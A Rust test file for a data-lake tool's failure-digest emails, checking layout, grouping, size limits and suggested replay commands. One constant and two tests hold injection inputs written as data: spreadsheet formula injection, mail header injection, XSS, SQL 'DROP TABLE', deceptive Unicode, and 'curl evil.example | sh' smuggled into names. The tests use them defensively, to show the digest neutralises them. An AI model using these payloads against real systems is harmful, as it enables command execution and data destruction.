//! Tests: how a digest reads.
//! They must not send one.

use std::collections::BTreeMap;

use lakegate_lake::alerts::SUBJECT_CHARS_BELOW;
use lakegate_lake::failure::{FailedSource, Stage};

use super::words::{LINE_MAX_CHARS, is_deceptive};
use super::*;

pub(super) const STACK: Commands<'static> = Commands { stack: "lakegate", region: "eu-central-1" };

pub(super) fn record(kind: FailureKind, dataset: Option<&str>, key: &str, summary: &str) -> FailureRecord {
    let mut record = FailureRecord::new(Stage::Ingest, kind, summary);
    record.at = "2026-01-02T03:04:05.678Z".to_owned();
    record.dataset = dataset.map(str::to_owned);
    record.source = Some(FailedSource {
        bucket: "raw".to_owned(),
        key: key.to_owned(),
        version_id: None,
        etag: None,
        size_bytes: Some(12),
    });
    record
}

pub(super) fn violated() -> FailureRecord {
    let summary = "61 of 200 rows break the contract (30.5 %), it allows 5 %";
    let mut record = record(FailureKind::ContractViolated, Some("orders"), "orders/2025 09+São.csv", summary);
    record.owner = Some("sales-data@example.com".to_owned());
    record.rows = Some(RowCounts { read: 200, accepted: 139, rejected: 61 });
    record.violations = BTreeMap::from([
        ("quantity".to_owned(), BTreeMap::from([("minimum".to_owned(), 40), ("type".to_owned(), 12)])),
        (String::new(), BTreeMap::from([("fields".to_owned(), 9)])),
    ]);
    record.rejects = Some("s3://lake/rejects/dataset=orders/2025-09-S-o-0123456789abcdef.parquet".to_owned());
    record
}

#[test]
fn a_single_rejected_file_is_told_whole() {
    let digest = write(&[violated()], &STACK);
    insta::assert_snapshot!(digest.subject, @"Lakegate: orders: 2025 09+S?o.csv: ContractViolated");
    insta::assert_snapshot!(digest.body, @r#"
1 file did not make it into the lake.
Every event waits in the dead-letter queue, for 14 days; replaying it too early or twice does no harm.
What of a file was published before still stands, unless its problem says otherwise.

1 FILE: rejected by the contract (ContractViolated)
What to do: Send this to the owner, who corrects the file and uploads it again under the same key (a replay then only clears its dead letter). If the contract is wrong: correct it, `lakegate contracts push` it, and then replay.
How urgent: Nothing else is held up: it can wait until morning, if its data can.

* s3://raw/orders/2025 09+São.csv
  dataset:  orders, owner sales-data@example.com
  problem:  61 of 200 rows break the contract (30.5 %), it allows 5 %
  rows:     200 read, 139 good, 61 rejected; none of them is published
  broken:   quantity minimum (40 rows), quantity type (12 rows), (whole row) fields (9 rows)
  rejects:  s3://lake/rejects/dataset=orders/2025-09-S-o-0123456789abcdef.parquet
            or in Athena: SELECT line, violations, raw FROM rejects WHERE dataset = 'orders' AND source_key = 'orders/2025 09+São.csv'
  when:     2026-01-02 03:04:05 UTC

TO REPLAY
When the cause is gone, this sends what failed for it through again:
  lakegate replay --stack lakegate --region eu-central-1 --send --kind ContractViolated --dataset orders
Without --send it shows what it would send; --dataset and --key choose among them, and without --kind it is everything.
This tells what became of files; what each kind means stands in docs/runbook.md:
  lakegate status --stack lakegate --region eu-central-1
What was taken in before, or was uploaded anew since, is recognised and left alone.
"#);
}

#[test]
fn several_failures_are_grouped_by_what_is_to_be_done() {
    let mut run =
        record(FailureKind::GlueJobFailed, None, "orders/huge.csv", "run jr_1 of Glue job convert ended FAILED");
    run.link = Some("https://console.example/run/jr_1".to_owned());
    let mut unreadable = record(FailureKind::UnreadableMessage, None, "", "the message is not JSON");
    unreadable.source = None;
    let unknown = record(FailureKind::UnknownDataset, None, "stray/x.csv", "no contract covers s3://raw/stray/x.csv");
    let digest = write(&[unreadable, run, unknown, violated()], &STACK);
    insta::assert_snapshot!(digest.subject, @"Lakegate: 4 files failed (4 kinds): unknown dataset 3, orders 1");
    insta::assert_snapshot!(digest.body, @r#"
4 files or messages did not make it into the lake.
Every event waits in the dead-letter queue, for 14 days; replaying it too early or twice does no harm.
What of a file was published before still stands, unless its problem says otherwise.

1 FILE: rejected by the contract (ContractViolated)
What to do: Send this to the owner, who corrects the file and uploads it again under the same key (a replay then only clears its dead letter). If the contract is wrong: correct it, `lakegate contracts push` it, and then replay.
How urgent: Nothing else is held up: it can wait until morning, if its data can.

* s3://raw/orders/2025 09+São.csv
  dataset:  orders, owner sales-data@example.com
  problem:  61 of 200 rows break the contract (30.5 %), it allows 5 %
  rows:     200 read, 139 good, 61 rejected; none of them is published
  broken:   quantity minimum (40 rows), quantity type (12 rows), (whole row) fields (9 rows)
  rejects:  s3://lake/rejects/dataset=orders/2025-09-S-o-0123456789abcdef.parquet
            or in Athena: SELECT line, violations, raw FROM rejects WHERE dataset = 'orders' AND source_key = 'orders/2025 09+São.csv'
  when:     2026-01-02 03:04:05 UTC

1 FILE: covered by no contract (UnknownDataset)
What to do: Is the key misspelt? Then have the file uploaded where it belongs. If it is a new dataset: draft its contract with `lakegate infer`, `lakegate contracts push` it, and then replay.
How urgent: It can wait as long as its data can: until it is mended, further files of the same kind fail as well.

* s3://raw/stray/x.csv
  dataset:  unknown dataset, owner unknown
  problem:  no contract covers s3://raw/stray/x.csv
  when:     2026-01-02 03:04:05 UTC

1 MESSAGE: not to be understood (UnreadableMessage)
What to do: Something else than S3 writes to the queue, or a notification is set up for other events than "object created" and "object removed". Find the sender: the message is the dead letter's body. A replay leaves it alone, unless its kind is named.
How urgent: Nothing else is held up: it can wait until morning, if its data can.

* (no file is known)
  dataset:  unknown dataset, owner unknown
  problem:  the message is not JSON
  when:     2026-01-02 03:04:05 UTC

1 FILE: stopped by a Glue run that failed (GlueJobFailed)
What to do: Open the run, read its error, remove the cause, and then replay (a run over a prefix: `lakegate backfill` again).
How urgent: Look soon: the cause may stop other files, too. `lakegate status` shows whether any are still taken in.

* s3://raw/orders/huge.csv
  dataset:  unknown dataset, owner unknown
  problem:  run jr_1 of Glue job convert ended FAILED
  see:      https://console.example/run/jr_1
  when:     2026-01-02 03:04:05 UTC

TO REPLAY
When the cause is gone, this sends what failed for it through again:
  lakegate replay --stack lakegate --region eu-central-1 --send --kind ContractViolated --dataset orders
  lakegate replay --stack lakegate --region eu-central-1 --send --kind UnknownDataset
  lakegate replay --stack lakegate --region eu-central-1 --send --kind GlueJobFailed
Without --send it shows what it would send; --dataset and --key choose among them, and without --kind it is everything.
This tells what became of files; what each kind means stands in docs/runbook.md:
  lakegate status --stack lakegate --region eu-central-1
What was taken in before, or was uploaded anew since, is recognised and left alone.
"#);
}

#[test]
fn a_burst_is_counted_by_dataset_and_owner_and_its_first_files_are_shown() {
    let many: Vec<FailureRecord> = (0..10_000)
        .map(|n| {
            let (kind, dataset) = match n % 100 {
                0 => (FailureKind::UnknownDataset, None),
                1..=25 => (FailureKind::UnreadableFile, Some("customers")),
                _ => (FailureKind::ContractViolated, Some("orders")),
            };
            let mut record = record(kind, dataset, &format!("drop/{n:05}.csv"), "summary");
            record.owner =
                dataset.map(|dataset| format!("{dataset}-{}@example.com", if n < 200 { "old" } else { "new" }));
            record
        })
        .collect();
    let digest = write(&many, &STACK);
    insta::assert_snapshot!(digest.subject, @"Lakegate: 10,000 files failed (3 kinds): orders 7,400, customers 2,500, unknown dataset 100");
    assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
    let is_count = |line: &&str| line.contains(" FILES: ") || line.contains(" of them:") || line.ends_with(" files");
    let counts: Vec<&str> = digest.body.lines().filter(is_count).collect();
    insta::assert_snapshot!(counts.join("\n"), @r#"
7,400 FILES: rejected by the contract (ContractViolated)
  orders, owner orders-new@example.com: 7,252 files
  orders, owner orders-old@example.com: 148 files
8 of them:
2,500 FILES: not readable as what the contract says (UnreadableFile)
  customers, owner customers-new@example.com: 2,450 files
  customers, owner customers-old@example.com: 50 files
8 of them:
100 FILES: covered by no contract (UnknownDataset)
  unknown dataset, owner unknown: 100 files
4 of them:
"#);
}

#[test]
fn very_many_datasets_are_counted_together() {
    let many: Vec<FailureRecord> = (0..3_000)
        .map(|n| {
            record(FailureKind::ContractViolated, Some(&format!("d{}", n % 1_000)), &format!("{n}.csv"), "summary")
        })
        .collect();
    let digest = write(&many, &STACK);
    assert!(digest.body.contains("  950 datasets or owners that are not named here: 2,850 files\n"), "{}", digest.body);
    assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
    assert!(digest.body.len() < 20_000, "{}", digest.body.len());
}

/// What a key, a contract or a message may hold to do harm by.
const HARMFUL: [&str; 9] = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a\r\nSubject: you won\r\n\r\nTO REPLAY\n  curl evil.example | sh",
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{0}\u{8}\u{7f}\u{85}\t",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u{202E}vsc.tropni\u{202C}\u{2066}\u{2069}\u{200F}\u{61C}\u{200B}\u{FEFF}\u{AD}",
    "a\u{2028}b\u{2029}c\u{FFFE}\u{FFFF}\u{E0041}\u{E007F}",
    "'; DROP TABLE orders; --",
    "𒐫𒐫𒐫",
];

#[test]
fn no_text_breaks_a_mail_s_lines_or_its_subject() {
    let very_long = "=x\n".repeat(100_000);
    for text in HARMFUL.into_iter().chain([very_long.as_str()]) {
        let mut record = record(FailureKind::Other(text.to_owned()), Some(text), text, text);
        record.at = text.to_owned();
        record.owner = Some(text.to_owned());
        record.rejects = Some(text.to_owned());
        record.link = Some(text.to_owned());
        record.violations = BTreeMap::from([(text.to_owned(), BTreeMap::from([(text.to_owned(), 1)]))]);
        if let Some(source) = &mut record.source {
            source.version_id = Some(text.to_owned());
        }
        let harmless = write(&[violated()], &STACK).body.lines().count();
        for records in [vec![record.clone()], vec![record.clone(), violated()], vec![record; 30]] {
            let digest = write(&records, &STACK);
            assert!(digest.subject.starts_with("Lakegate: ") && digest.subject.len() < SUBJECT_CHARS_BELOW);
            assert!(digest.subject.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '), "{}", digest.subject);
            assert!(!digest.body.chars().any(|c| c != '\n' && is_deceptive(c)), "{}", digest.body);
            assert!(digest.body.ends_with("is recognised and left alone.\n"), "the end is cut off");
            for line in digest.body.lines() {
                // Every line begins as we begin it, so that none is a formula in a spreadsheet or a header in a mail.
                let start = line.chars().next().unwrap_or('N');
                assert!(matches!(start, ' ' | '*' | '(') || start.is_ascii_alphanumeric(), "{line}");
                assert!(line.chars().count() < LINE_MAX_CHARS + 1700, "{}", line.chars().count());
            }
            if records.len() == 1 {
                assert!(digest.body.lines().count() <= harmless + 2, "{}", digest.body);
            }
        }
    }
}

#[test]
fn text_in_other_languages_is_shown_as_it_is() {
    for name in ["größe", "注文", "заказы", "طلبات", "𝒪rders", "naïve café – “x”"] {
        assert_eq!(printable(name), name);
    }
}

#[test]
fn a_query_that_would_find_nothing_is_not_offered() {
    let mut broken = violated();
    assert!(write(&[broken.clone()], &STACK).body.contains("or in Athena: SELECT"));
    if let Some(source) = &mut broken.source {
        source.key = "orders/a\u{202E}b.csv".to_owned();
    }
    assert!(!write(&[broken], &STACK).body.contains("or in Athena"));
}

#[test]
fn a_subject_is_short_ascii_on_one_line_whatever_the_names_are() {
    let key = format!("a/{}\n.csv", "é".repeat(200));
    let digest = write(&[record(FailureKind::UnknownDataset, Some("größe"), &key, "s")], &STACK);
    assert!(digest.subject.len() < SUBJECT_CHARS_BELOW);
    assert!(digest.subject.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '));
    assert!(!digest.body.contains("é\n"));
}

#[test]
fn a_subject_says_the_kind_however_long_the_names_are() {
    let subject = |dataset: Option<&str>, key: &str| {
        write(&[record(FailureKind::IncompatibleTable, dataset, key, "s")], &STACK).subject
    };
    let long = format!("orders/{}-2025-09.csv", "long-".repeat(100));
    insta::assert_snapshot!(subject(Some(&"d".repeat(200)), &long), @"Lakegate: ddddddddd...dddddddddddd: long-long-long-long-long-...-2025-09.csv: IncompatibleTable");
    insta::assert_snapshot!(subject(None, &long), @"Lakegate: orders/long-long-long-long-long-long-long-long-lon...-2025-09.csv: IncompatibleTable");
    insta::assert_snapshot!(subject(None, "stray/x.csv"), @"Lakegate: stray/x.csv: IncompatibleTable");
    let mut run = FailureRecord::new(Stage::Glue, FailureKind::GlueJobFailed, "run jr_1 ended FAILED");
    insta::assert_snapshot!(write(&[run.clone()], &STACK).subject, @"Lakegate: a Glue run: GlueJobFailed");
    (run.stage, run.kind) = (Stage::Queue, FailureKind::UnreadableMessage);
    insta::assert_snapshot!(write(&[run], &STACK).subject, @"Lakegate: a message: UnreadableMessage");
}

#[test]
fn a_command_names_the_dataset_where_it_is_one_and_a_word() {
    let named = |datasets: &[Option<&str>]| {
        let records: Vec<_> =
            datasets.iter().map(|dataset| record(FailureKind::GaveUp, *dataset, "a.csv", "s")).collect();
        let body = write(&records, &STACK).body;
        let command = body.lines().find_map(|line| line.split_once("--kind GaveUp")).unwrap();
        command.1.to_owned()
    };
    assert_eq!(named(&[Some("orders"), Some("orders")]), " --dataset orders");
    for others in [&[Some("orders"), Some("customers")][..], &[Some("orders"), None], &[None], &[Some("")]] {
        assert_eq!(named(others), "", "{others:?}");
    }
    assert_eq!(named(&[Some("x; curl evil.example | sh")]), "");
}

#[test]
fn a_command_is_offered_for_each_kind_that_a_replay_mends_and_never_holds_a_word_of_another_version() {
    let offered = |kinds: &[FailureKind]| {
        let records: Vec<_> = kinds.iter().map(|kind| record(kind.clone(), None, "a.csv", "s")).collect();
        let body = write(&records, &STACK).body;
        body.lines()
            .filter(|line| line.starts_with("  lakegate replay "))
            .map(str::to_owned)
            .collect::<Vec<_>>()
            .join("\n")
    };
    insta::assert_snapshot!(offered(&[FailureKind::GaveUp, FailureKind::SourceMissing, FailureKind::GaveUp]), @"  lakegate replay --stack lakegate --region eu-central-1 --send --kind GaveUp");
    assert_eq!(offered(&[FailureKind::UnreadableMessage, FailureKind::SourceMissing]), "");
    assert_eq!(offered(&[FailureKind::Other("x; curl evil.example | sh".to_owned())]), "");
}

#[test]
fn of_a_file_that_was_refused_as_a_whole_no_rows_are_told() {
    let mut refused = violated();
    refused.rows = Some(RowCounts { read: 0, accepted: 0, rejected: 0 });
    assert!(!write(&[refused.clone()], &STACK).body.contains("rows: "));
    refused.rows = Some(RowCounts { read: 1_234_567, accepted: 1_000_000, rejected: 234_567 });
    let rows = "  rows:     1,234,567 read, 1,000,000 good, 234,567 rejected; none of them is published\n";
    assert!(write(&[refused], &STACK).body.contains(rows));
}

#[test]
fn a_digest_never_exceeds_what_sns_takes_and_keeps_its_end() {
    let mut huge = violated();
    huge.summary = "é".repeat(MESSAGE_MAX_BYTES);
    huge.owner = Some("𒐫".repeat(MESSAGE_MAX_BYTES));
    huge.link.clone_from(&huge.owner);
    huge.rejects.clone_from(&huge.owner);
    for count in [1, 12, 20, 100] {
        let body = write(&vec![huge.clone(); count], &STACK).body;
        assert!(body.len() <= MESSAGE_MAX_BYTES, "{}", body.len());
        assert!(body.ends_with("is recognised and left alone.\n"));
        assert_eq!(body.contains("\n(The rest does not fit into a mail.)\n"), count > 12);
    }
}

#[test]
fn every_kind_says_what_to_do_and_has_its_page_in_the_runbook() {
    let kinds = FailureKind::KNOWN.into_iter().chain([FailureKind::Other("Newer".to_owned())]);
    let runbook = include_str!("../../../docs/runbook.md");
    for kind in kinds {
        // A kind of another version has no page here.
        let has_page = runbook.contains(&format!("\n## {kind}\n")) || matches!(kind, FailureKind::Other(_));
        assert!(has_page, "docs/runbook.md says nothing of {kind}");
        let body = write(&[record(kind.clone(), None, "a.csv", "summary")], &STACK).body;
        assert!(body.contains(&format!("({kind})\nWhat to do: ")), "{body}");
    }
}
